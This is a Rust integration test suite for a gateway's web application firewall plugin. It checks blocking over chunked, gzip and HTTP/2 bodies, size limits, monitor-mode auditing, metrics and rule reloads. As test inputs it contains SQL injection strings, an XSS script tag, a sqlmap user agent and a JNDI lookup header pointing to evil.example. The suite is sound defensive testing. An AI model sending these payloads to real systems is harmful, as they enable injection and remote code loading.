//! The firewall: what it refuses and passes over real connections, and what it says of that.

use crate::{
    client::{Client, Response, head},
    h2c::Stream,
    harness::{Gateway, until},
};
use flate2::{Compression, write::GzEncoder};
use serde_json::Value;
use std::{fmt::Write as _, io::Write as _};

const CONF: &str = "
admin: {address: 127.0.0.1:0}
listeners: {h2: {address: 127.0.0.1:0, http2: true}}
routes:
  guarded: {paths: [/echo/*, /products/*], upstream: demo, plugins: {waf: {rules: [own/*.conf]}}}
  watched: {paths: [/echo/watched/*], upstream: demo, plugins: {waf: {mode: monitor, request_body: {limit: 1KiB}}}}
  short: {paths: [/echo/short/*], upstream: demo, plugins: {waf: {request_body: {limit: 1KiB}}}}
  prefix: {paths: [/echo/prefix/*], upstream: demo, plugins: {waf: {request_body: {limit: 1KiB, over_limit: inspect_prefix}}}}
  answers: {paths: [/gzip, '/bytes/{n}'], upstream: demo, plugins: {waf: {rules: [answer.conf], response_body: {inspect: true, limit: 4KiB}}}}
";
const OWN: &str = "SecRule ARGS:word \"@streq forbidden\" \"id:77,phase:2,deny,msg:'a word'\"\n";
const ANSWER: &str = "SecRule RESPONSE_BODY \"@contains sunflower\" \"id:78,phase:4,deny\"\n";
const ATTACK: &str = "q=1%27+or+%271%27%3D%271";

fn start() -> Gateway {
    let prepared = Gateway::prepare(CONF);
    prepared.write("own/a.conf", OWN);
    prepared.write("answer.conf", ANSWER);
    prepared.start(env!("CARGO_BIN_EXE_palisade").as_ref())
}

fn post(gateway: &Gateway, path: &str, headers: &[&str], body: &[u8]) -> Response {
    let length = format!("Content-Length: {}", body.len());
    let form = "Content-Type: application/x-www-form-urlencoded";
    let fields: Vec<&str> = headers.iter().copied().chain([&*length, form]).collect();
    let mut client = gateway.connect();
    client.send(head("POST", path, &fields)).send(body);
    client.response()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// The body in chunks of seven bytes.
fn chunked(gateway: &Gateway, body: &str) -> Response {
    let form = "Content-Type: application/x-www-form-urlencoded";
    let mut text = head("POST", "/echo/", &["Transfer-Encoding: chunked", form]);
    for piece in body.as_bytes().chunks(7) {
        let _ = write!(text, "{:x}\r\n{}\r\n", piece.len(), String::from_utf8_lossy(piece));
    }
    text.push_str("0\r\n\r\n");
    let mut client = gateway.connect();
    client.send(text);
    client.response()
}

#[test]
fn attacks_are_refused_and_what_people_send_passes() {
    let gateway = start();
    let refused = gateway.get("/echo/?q=1%27%20or%20%271%27%3D%271").expect(403);
    assert_eq!(refused.reason(), "waf_blocked");
    assert_eq!(refused.header("content-type"), Some("application/problem+json"));
    assert!(!refused.text().contains("8506"), "{}", refused.text());
    gateway.get("/echo/?q=O%27Brien").expect(200);
    gateway.get("/echo/?word=forbidden").expect(403);
    gateway.get("/products/1").expect(200);
    assert_eq!(
        gateway.request("GET", "/echo/", &["User-Agent: sqlmap/1.8"]).expect(403).reason(),
        "waf_blocked"
    );
    gateway.request("GET", "/echo/", &["X-Any: ${jndi:ldap://evil.example/a}"]).expect(403);
    let json = |body: &str| post(&gateway, "/echo/", &[], body.as_bytes());
    assert_eq!(json(r#"{"a": "<script>alert(1)</script>"}"#).expect(403).reason(), "waf_blocked");
    assert_eq!(json(r#"{"a": "hello"}"#).expect(200).status, 200);
    post(&gateway, "/echo/", &[], ATTACK.as_bytes()).expect(403);
    post(&gateway, "/echo/", &[], b"q=hello").expect(200);
}

#[test]
fn bodies_are_inspected_however_they_come() {
    let gateway = start();
    chunked(&gateway, ATTACK).expect(403);
    chunked(&gateway, "q=hello&r=what+people+send").expect(200);
    let encoded = |body: &[u8]| post(&gateway, "/echo/", &["Content-Encoding: gzip"], body);
    encoded(&gzip(ATTACK.as_bytes())).expect(403);
    encoded(&gzip(b"q=hello")).expect(200);
    assert_eq!(encoded(b"q=hello").expect(400).reason(), "waf_body_malformed");
    assert_eq!(encoded(&gzip(&[b'a'; 20_000_000])).expect(413).reason(), "waf_body_too_large");
    let unknown = post(&gateway, "/echo/", &["Content-Encoding: zstd"], b"x").expect(415);
    assert_eq!(
        (unknown.reason().as_str(), unknown.header("accept-encoding")),
        ("waf_encoding", Some("gzip, deflate, br"))
    );
    // Long enough to be judged aside.
    let long = format!("a={}&{ATTACK}", "b".repeat(200_000));
    post(&gateway, "/echo/", &[], long.as_bytes()).expect(403);
    post(&gateway, "/echo/", &[], format!("a={}", "b".repeat(200_000)).as_bytes()).expect(200);
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    runtime.block_on(async {
        for (pieces, status) in [(["q=hel", "lo"], 200), (["q=%3Cscr", "ipt%3Ealert(1)"], 403)] {
            let request = http::Request::post("http://gateway.test/echo/")
                .header("content-type", "application/x-www-form-urlencoded");
            let mut stream = Stream::send(gateway.at("listener h2"), request.body(()).unwrap(), false).await;
            stream.piece(pieces[0]);
            stream.piece(pieces[1]);
            stream.end();
            assert_eq!(stream.answer().await.0, status, "{pieces:?}");
        }
    });
}

#[test]
fn what_is_over_the_limit_is_refused_or_inspected_to_it() {
    let gateway = start();
    let long = format!("{ATTACK}&a={}", "b".repeat(2000));
    assert_eq!(
        post(&gateway, "/echo/short/", &[], long.as_bytes()).expect(413).reason(),
        "waf_body_too_large"
    );
    post(&gateway, "/echo/prefix/", &[], long.as_bytes()).expect(403);
    let late = format!("a={}&{ATTACK}", "b".repeat(2000));
    post(&gateway, "/echo/prefix/", &[], late.as_bytes()).expect(200);
    // In chunks nobody says how long it is.
    let form = "Content-Type: application/x-www-form-urlencoded";
    let mut client = gateway.connect();
    client.send(head("POST", "/echo/short/", &["Transfer-Encoding: chunked", form]));
    client.send(format!("{:x}\r\n{long}\r\n0\r\n\r\n", long.len()));
    client.response().expect(413);
}

#[test]
fn a_monitored_entry_records_and_refuses_nothing() {
    let gateway = start();
    gateway.get("/echo/watched/?q=1%27%20or%20%271%27%3D%271&password=%27+or+1=1--+").expect(200);
    let long = format!("a={}", "b".repeat(2000));
    post(&gateway, "/echo/watched/", &[], long.as_bytes()).expect(200);
    gateway.get("/echo/?q=%3Cscript%3E").expect(403);
    let lines = gateway.audit(3);
    let decided = |line: &Value, effect: &str, reason: &str| {
        line["decisions"]
            .as_array()
            .unwrap()
            .iter()
            .any(|one| one["plugin"] == "waf" && one["effect"] == effect && one["reason"] == reason)
    };
    // Which of them was written first does not matter.
    let line = |number: usize| {
        let (method, status) = [("GET", 200), ("POST", 200), ("GET", 403)][number];
        lines.iter().find(|line| line["method"] == method && line["status"] == status).unwrap()
    };
    assert!(decided(line(0), "would_deny", "waf_blocked"), "{:#}", line(0));
    assert!(decided(line(1), "would_deny", "waf_body_too_large"), "{:#}", line(1));
    assert!(decided(line(2), "deny", "waf_blocked"), "{:#}", line(2));
    let found = &line(0)["findings"][0];
    assert_eq!(found["plugin"], "waf");
    assert!(found["found"]["inbound_score"].as_i64().unwrap() >= 5, "{found:#}");
    let rules = found["found"]["rules"].as_array().unwrap();
    let rule = rules.iter().find(|rule| rule["id"] == 8_506_030).unwrap();
    assert_eq!((&rule["severity"], &rule["tags"][0]), (&"CRITICAL".into(), &"sqli".into()));
    assert!(rule["message"].is_string() && rule["variables"][0]["name"] == "ARGS:q", "{rule:#}");
    assert!(!found.to_string().contains("' or 1=1"), "a password shows: {found:#}");
    let metrics =
        Client::connect(gateway.at("admin")).request("GET", "/metrics", &["Host: 127.0.0.1"]).text();
    for part in [
        r#"palisade_plugin_events_total{event="rules_8506",plugin="waf"}"#,
        r#"palisade_plugin_events_total{event="body_over_limit",plugin="waf"} 1"#,
        r#"effect="would_deny",plugin="waf",reason="waf_blocked",route="watched""#,
    ] {
        assert!(metrics.contains(part), "{part} is not in {metrics}");
    }
    assert!(!metrics.contains("8506030"));
}

#[test]
fn responses_are_decoded_and_inspected_where_that_is_asked_for() {
    let gateway = start();
    assert_eq!(gateway.get("/gzip").expect(502).reason(), "waf_response_blocked");
    gateway.get("/bytes/1000").expect(200);
    // No text, and more than is inspected: it passes as it is.
    gateway.get("/bytes/10000").expect(200);
}

#[test]
fn a_reload_compiles_only_what_has_changed() {
    let gateway = start();
    let compiled = || gateway.log().matches("waf: compiled").count();
    let before = compiled();
    // Five entries, three sets: two have rules of their own.
    assert_eq!(before, 3, "{}", gateway.log());
    gateway.hangup("is serving");
    assert_eq!(compiled(), before);
    gateway.put("own/b.conf", &OWN.replace("77", "79").replace("forbidden", "new"));
    gateway.hangup("is serving");
    until("the new rule", || (gateway.get("/echo/?word=new").status == 403).then_some(()));
    gateway.get("/echo/?word=forbidden").expect(403);
    assert_eq!(compiled(), before + 1);
    gateway.put("own/b.conf", "SecRule ARG \"@rx x\" \"id:80\"\n");
    gateway.hangup("the old one goes on serving");
    gateway.get("/echo/?word=new").expect(403);
}
